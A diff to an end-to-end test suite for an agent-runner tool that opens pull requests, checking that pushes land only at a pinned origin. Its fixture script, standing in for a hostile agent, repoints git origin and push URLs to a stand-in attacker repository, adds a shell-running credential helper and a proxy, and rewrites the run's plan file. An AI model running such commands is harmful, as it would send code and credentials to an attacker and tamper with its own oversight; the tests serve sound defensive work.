@@ -33,9 +33,9 @@ git config --add "url.$evil/mallory/loot.git.insteadOf" "$origin" 2>/dev/null
 git config --add remote.origin.pushurl "$evil/mallory/loot.git" 2>/dev/null
 git config --add credential.helper "!sh -c 'echo ran > $PWD/helper-ran'" 2>/dev/null
 git config --add http.proxy "$proxy" 2>/dev/null
-state="$PWD/../../runs/$SVC_RUN_ID/state.json"
-if [ -w "$state" ]; then
-  sed -i "s#$origin#$evil/mallory/loot.git#g" "$state" && echo "rewrote state" > "$PWD/state-rewritten"
+plan="$PWD/../../runs/$SVC_RUN_ID/plan.json"
+if [ -w "$plan" ]; then
+  sed -i "s#$origin#$evil/mallory/loot.git#g" "$plan" && echo "rewrote plan" > "$PWD/plan-rewritten"
 fi
 echo "fixed" >> a.txt
 `;
@@ -113,7 +113,8 @@ describe('the push target, end to end', () => {
     const brief = `EVIL=${evil.url} PROXY=${proxyUrl} append fixed to a.txt`;
     const res = await runChild(process.execPath, [CLI, 'start', '--brief', brief, '--pr', '--provider', 'agent'], { cwd: repo.repo, env });
     const { run } = JSON.parse(res.stdout.trim().split('\n')[0]!) as { run: string };
-    return { ...readJson(join(repo.repo, '.svc', 'runs', run, 'state.json')), stderr: res.stderr, code: res.code };
+    const dir = join(repo.repo, '.svc', 'runs', run);
+    return { ...readJson(join(dir, 'state.json')), plan: readJson(join(dir, 'plan.json')), stderr: res.stderr, code: res.code };
   }
 
   /** Requests that reached the GitHub git host for repository `name`. */
@@ -147,7 +148,7 @@ describe('the push target, end to end', () => {
     const repo = repoNamed('normal', EDIT_SCRIPT);
     const state = await runPr(repo, bwrapWorks ? 'bwrap' : 'none');
     assert.equal(state.status, 'succeeded', `${state.error} ${state.stderr}`);
-    assert.deepEqual(state.push_target, { url: `${github.url}/acme/normal.git`, repo: 'acme/normal' });
+    assert.deepEqual(state.plan.push_target, { url: `${github.url}/acme/normal.git`, repo: 'acme/normal' });
     assert.equal(branchAt(join(root, 'github', 'acme', 'normal.git'), state.branch), state.head_sha, 'the branch landed');
     assertTokenOnlyAtGithub('normal');
     const create = rest.requests.find((r) => r.method === 'POST' && r.path === '/repos/acme/normal/pulls');
@@ -168,15 +169,15 @@ describe('the push target, end to end', () => {
     assertNothingReachedEvil();
   });
 
-  it('unsandboxed: an agent that repoints origin, adds URL rules, a helper and a proxy and rewrites state.json gets the push refused', async () => {
+  it('unsandboxed: an agent that repoints origin, adds URL rules, a helper and a proxy and rewrites the run\'s plan gets the push refused', async () => {
     const repo = repoNamed('repoint', REPOINT);
     const state = await runPr(repo, 'none');
     assert.ok(existsSync(join(state.workdir, 'repointed')), 'the agent did repoint origin');
-    assert.ok(existsSync(join(state.workdir, 'state-rewritten')), 'the agent did rewrite the state file');
+    assert.ok(existsSync(join(state.workdir, 'plan-rewritten')), 'the agent did rewrite the plan file');
     assert.equal(state.status, 'failed');
     assert.match(state.error, /^Pull request not opened: .*changed during the run.*svc pinned "https:\/\/127\.0\.0\.1:\d+\/acme\/repoint\.git"/);
-    // The worker kept the pin in memory and wrote it back over the agent's edit.
-    assert.equal(state.push_target.url, `${github.url}/acme/repoint.git`);
+    // The worker kept the plan in memory and wrote it back over the agent's edit, so no later --open-pr reads the edit.
+    assert.equal(state.plan.push_target.url, `${github.url}/acme/repoint.git`);
     assertNothingReachedEvil();
     // The --pr check before the agent read the origin (git-upload-pack); nothing was sent to it (git-receive-pack).
     assert.deepEqual(pushesTo('repoint').filter((r) => r.path.includes('git-receive-pack')), [], 'nothing was pushed');
@@ -219,12 +220,12 @@ echo "https://github.example/acme/api/pull/77"
     assert.equal(branchAt(repo.origin, state.branch), state.head_sha, 'the branch was pushed to the pinned (local) origin');
   });
 
-  it('sandboxed: the agent cannot change the config or the state file, and the branch lands at the pinned origin', { skip: bwrapWorks ? false : 'bwrap cannot run on this host' }, async () => {
+  it('sandboxed: the agent cannot change the config or the run\'s plan, and the branch lands at the pinned origin', { skip: bwrapWorks ? false : 'bwrap cannot run on this host' }, async () => {
     const repo = repoNamed('sandboxed', REPOINT);
     const state = await runPr(repo, 'bwrap');
     assert.equal(state.status, 'succeeded', `${state.error} ${state.stderr}`);
     assert.equal(existsSync(join(state.workdir, 'repointed')), false, 'git config is read-only inside the sandbox');
-    assert.equal(existsSync(join(state.workdir, 'state-rewritten')), false, 'the run folder is not visible inside the sandbox');
+    assert.equal(existsSync(join(state.workdir, 'plan-rewritten')), false, 'the run folder is not visible inside the sandbox');
     assert.equal(execFileSync('git', ['remote', 'get-url', 'origin'], { cwd: repo.repo, encoding: 'utf8' }).trim(), `${github.url}/acme/sandboxed.git`);
     assert.equal(branchAt(join(root, 'github', 'acme', 'sandboxed.git'), state.branch), state.head_sha, 'the branch landed');
     assertTokenOnlyAtGithub('sandboxed');
